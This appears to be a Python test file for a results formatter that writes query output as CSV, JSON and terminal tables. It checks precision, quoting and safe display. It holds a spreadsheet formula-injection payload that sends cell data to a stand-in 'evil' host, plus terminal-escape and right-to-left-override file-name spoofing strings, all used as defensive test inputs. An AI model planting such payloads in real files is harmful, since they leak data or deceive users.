"""Results as text: what scripts read is exact, what people read deceives nobody."""

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tagger.show import arrow_as, facts_as_text, rows_as

KEYS = st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=4)
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(KEYS)
def test_csv_gives_a_script_every_key_back(keys):
    read = cells(rows_as([{"image_key": key, "n": 1} for key in keys], "csv"))
    assert read == [["image_key", "n"], *([key, "1"] for key in keys)]


@given(KEYS)
def test_json_gives_a_script_every_key_back(keys):
    assert json.loads(rows_as([{"image_key": key} for key in keys], "json")) == [{"image_key": key} for key in keys]


def test_csv_holds_a_formula_as_it_is_since_scripts_read_it():
    assert cells(rows_as([{"image_key": FORMULA, "n": 1}], "csv"))[1] == [FORMULA, "1"]


@pytest.mark.parametrize("style", ["csv", "json", "table"])
def test_a_file_name_that_is_no_utf8_can_be_written(style):
    text = rows_as([{"photo": "b\udcff.jpg", "n": 1}], style)
    text.encode()
    assert "b\\udcff.jpg" in text
    if style == "json":
        assert json.loads(text)[0]["photo"] == "b\udcff.jpg"


def test_columns_without_rows_are_quoted_too():
    answer = pa.table({"a,b": pa.array([], pa.string()), 'c"': pa.array([], pa.string())})
    assert cells(arrow_as(answer, "csv")) == [["a,b", 'c"']]


@pytest.mark.parametrize("key", ["a\nrow 2", "\x1b[31mred\x1b[0m", "a\u202egpj.exe", "a\0b", "k" * 1024])
def test_a_key_in_a_table_takes_one_line_and_commands_no_terminal(key):
    shown = rows_as([{"image_key": key}, {"image_key": "next"}], "table")
    assert len(shown.splitlines()) == 3 and all(line.isprintable() for line in shown.splitlines())


def test_a_fact_takes_one_line():
    assert facts_as_text({"photo": "a\nexit code  0", "color": "Red"}).splitlines() == [
        "photo  a\\nexit code  0",
        "color  Red",
    ]


def asked(style="json", **columns):
    return arrow_as(pa.table(columns), style)


@pytest.mark.parametrize(
    ("value", "told"),
    [
        (Decimal(2) ** 70, 2**70),  # what a sum of integers is
        (Decimal("3.00"), 3),
        (Decimal("1.5"), 1.5),
        (dt.time(10, 30), "10:30:00"),
        (float("inf"), None),
        (float("-inf"), None),
        (float("nan"), None),
        ([float("inf"), 1.0], [None, 1.0]),
        ({"n": Decimal("0.25")}, {"n": 0.25}),
    ],
)
def test_json_holds_what_sql_can_answer(value, told):
    def refuse(name):
        raise AssertionError(f"{name} is no JSON")

    assert json.loads(asked(n=pa.array([value])), parse_constant=refuse) == [{"n": told}]


def test_csv_and_table_tell_decimals_and_infinity_as_they_are():
    columns = {"n": pa.array([Decimal("1.50")]), "x": pa.array([float("inf")])}
    assert cells(asked("csv", **columns))[1] == asked("table", **columns).splitlines()[1].split() == ["1.50", "inf"]


SECONDS = 1791117296.123456


@pytest.mark.parametrize("style", ["csv", "table"])
def test_double_precision_is_told_to_its_last_digit_and_single_precision_shortened(style):
    text = asked(style, long=pa.array([SECONDS]), short=pa.array([0.1], pa.float32()))
    assert text.splitlines()[1].replace(",", " ").split() == ["1791117296.123456", "0.1"]


@pytest.mark.parametrize(
    ("kind", "value", "told"),
    [
        (pa.list_(pa.float32()), [0.1], [0.1]),
        (pa.list_(pa.float32(), 1), [0.1], [0.1]),
        (pa.list_(pa.float64()), [SECONDS], [SECONDS]),
        (pa.struct([("p", pa.float32()), ("s", pa.float64())]), {"p": 0.1, "s": SECONDS}, {"p": 0.1, "s": SECONDS}),
        (pa.list_(pa.struct([("p", pa.float32())])), [{"p": 0.1}, None], [{"p": 0.1}, None]),
        (pa.map_(pa.string(), pa.float32()), [("k", 0.1)], [["k", 0.1]]),
        (pa.dictionary(pa.int8(), pa.string()), "Red", "Red"),
    ],
)
def test_precision_is_that_of_the_type_also_inside(kind, value, told):
    assert json.loads(asked(n=pa.array([value], kind))) == [{"n": told}]


def test_our_own_figures_have_six_digits():
    assert json.loads(rows_as([{"age_h": 0.123456789, "shares": {"a": [1 / 3]}}], "json")) == [
        {"age_h": 0.123457, "shares": {"a": [0.333333]}}
    ]


def test_columns_of_the_same_name_stay_apart():
    names = ["a", "a", "a", "a_1", "b"]
    answer = pa.table([pa.array([n]) for n in range(5)], names=names)
    told = {"a": 0, "a_1": 1, "a_2": 2, "a_1_1": 3, "b": 4}
    assert json.loads(arrow_as(answer, "json")) == [told]
    assert cells(arrow_as(answer, "csv")) == [list(told), list("01234")]
    assert arrow_as(answer, "table").splitlines()[0].split() == list(told)
    assert cells(arrow_as(answer.slice(1), "csv")) == [list(told)]
    assert arrow_as(answer.slice(1), "table") == f"no rows ({', '.join(told)})"
